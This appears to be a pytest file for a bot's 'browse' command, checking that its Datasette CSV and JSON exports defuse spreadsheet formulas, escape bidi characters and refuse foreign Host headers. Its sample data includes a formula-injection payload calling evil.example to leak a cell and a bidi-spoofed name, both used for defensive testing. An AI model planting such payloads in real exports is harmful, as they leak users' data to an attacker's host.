"""`sqbot browse` against a real Datasette: its CSV and JSON downloads of a hostile name are as inert as
`leads export` (no spreadsheet formula, control and bidi characters escaped)."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from bot.browse.guard import safe_csv, safe_json
from bot.models import IdentityData, InteractionData
from bot.store.db import Store
from tests.conftest import service_unavailable

NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
BIDI = "gnp.\u202eexe\x85"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _get(url: str) -> str:
    with urllib.request.urlopen(url, timeout=5) as r:
        return str(r.read().decode("utf-8"))


def _reply(pid: str, user: str, name: str) -> InteractionData:
    return InteractionData(
        platform="bluesky",
        platform_id=pid,
        kind="reply",
        author=IdentityData(platform="bluesky", user_id=user, handle=f"{user}.test", name=name),
        text="+1 great question",
        created_at=NOW,
    )


@pytest.fixture
def datasette(tmp_path: Path) -> Iterator[str]:
    if importlib.util.find_spec("datasette") is None:
        service_unavailable("Datasette", "not installed: pip install -e '.[browse]'")
    s = Store.open(tmp_path / "data" / "sqbot.db")
    s.ingest("bluesky", [_reply("r1", "eve", EVIL), _reply("r2", "rlo", BIDI)], None, NOW)
    s.close()
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("SQBOT_")}
    env["SQBOT_DATA_DIR"] = str(tmp_path / "data")
    proc = subprocess.Popen(
        [sys.executable, "-m", "bot", "browse", "--port", str(port)],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(150):
            try:
                _get(base + "/-/versions.json")
                break
            except OSError:
                if proc.poll() is not None:
                    pytest.fail(f"sqbot browse exited: {proc.stdout.read() if proc.stdout else ''}")
                time.sleep(0.1)
        else:
            pytest.fail("sqbot browse did not answer within 15 s")
        yield base + "/sqbot"
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def test_browse_csv_and_json_downloads_neutralise_formulas_and_escape_bidi(datasette: str) -> None:
    for url in (
        datasette + "/people.csv",
        datasette + "/people.csv?_dl=1",
        datasette + ".csv?sql=select+name+from+people",
    ):
        rows = list(csv.DictReader(io.StringIO(_get(url))))
        names = [r["name"] for r in rows]
        assert "'" + EVIL in names, (url, names)
        assert not any(n.startswith("=") for n in names)
        assert not any("\u202e" in n or "\x85" in n for n in names) and any("\\u202e" in n for n in names)
    for url in (datasette + "/people.json?_shape=array", datasette + ".json?sql=select+name+from+people"):
        raw = _get(url)
        assert "\u202e" not in raw and "\x85" not in raw and "\\u202e" in raw
        data = json.loads(raw)
        rows = (
            data
            if isinstance(data, list)
            else [dict(zip(data["columns"], r, strict=True)) for r in data["rows"]]
        )
        names = {r["name"] for r in rows}
        assert (
            "'" + EVIL in names and BIDI in names
        )  # the bidi name parses back exactly; the formula is inert
    page = _get(datasette + "/people")  # the HTML pages are Datasette's own (escaped by its templates)
    assert "<title>" in page


def test_the_guard_rewrites_csv_cells_and_json_strings_only() -> None:
    text = 'id,name\r\n1,"=1+2"\r\n2,plain\r\n3,"-5"\r\n'
    assert list(csv.reader(io.StringIO(safe_csv(text)))) == [
        ["id", "name"],
        ["1", "'=1+2"],
        ["2", "plain"],
        ["3", "'-5"],
    ]
    out = json.loads(safe_json(json.dumps({"rows": [[1, "@SUM(A1)", None, 2.5, "ok"]]})))
    assert out == {"rows": [[1, "'@SUM(A1)", None, 2.5, "ok"]]}


def _get_as(url: str, host: str) -> tuple[int, str]:
    req = urllib.request.Request(url, headers={"Host": host})
    try:
        with urllib.request.urlopen(req, timeout=5) as r:
            return int(r.status), str(r.read().decode("utf-8"))
    except urllib.error.HTTPError as e:
        return int(e.code), e.read().decode("utf-8")


def test_browse_refuses_a_foreign_host_header(datasette: str) -> None:
    """DNS rebinding: a page on evil.example re-points its name at 127.0.0.1 and reads the leads with its own
    name in `Host`. Only the loopback names with the served port are answered."""
    port = datasette.split(":")[2].split("/")[0]
    for host in (f"evil.example:{port}", "evil.example", f"127.0.0.1.evil.example:{port}", "127.0.0.1:1"):
        status, body = _get_as(datasette + "/people.json?_shape=array", host)
        assert status == 421 and "HYPERLINK" not in body, (host, status, body[:200])
    for host in (f"127.0.0.1:{port}", f"localhost:{port}"):
        status, body = _get_as(datasette + "/people.json?_shape=array", host)
        assert status == 200 and "HYPERLINK" in body, (host, status)


@pytest.mark.parametrize(
    "query",
    [
        "/people.json?_shape=array&_nl=on",
        "/people.json?_shape=objects",
        "/people.json?_shape=arrays",
        "/people.json?_shape=object",
        "/people.json?_shape=array&_nl=on&_dl=1",
        "/people.json?_shape=array&_nl=on&_col=name",
        ".json?sql=select+name+from+people&_shape=array&_nl=on",
        ".json?sql=select+name+from+people&_shape=arrayfirst",
        ".json?sql=select+name,+1+as+n+from+people&_shape=objects",
        "/people.csv?_stream=on",
        ".csv?sql=select+name+from+people&_dl=on",
    ],
)
def test_every_download_shape_is_neutralised(datasette: str, query: str) -> None:
    raw = _get(datasette + query)
    assert "\u202e" not in raw and "\x85" not in raw, query
    assert '"=HYPERLINK' not in raw and "\n=HYPERLINK" not in raw and not raw.startswith("=HYPERLINK"), raw[
        :300
    ]
    assert "HYPERLINK" in raw, raw[:300]  # the name is there, inert
    if ".csv" not in query:
        lines = raw.splitlines() if "_nl=on" in query else [raw]
        docs = [json.loads(line) for line in lines if line.strip()]
        assert "'" + EVIL in _strings(docs) and BIDI in _strings(docs), query


def _strings(value: object) -> set[str]:
    """Every string in a JSON value, keys included."""
    if isinstance(value, str):
        return {value}
    if isinstance(value, list):
        return set().union(*(_strings(v) for v in value)) if value else set()
    if isinstance(value, dict):
        return set().union(*(_strings(k) | _strings(v) for k, v in value.items())) if value else set()
    return set()
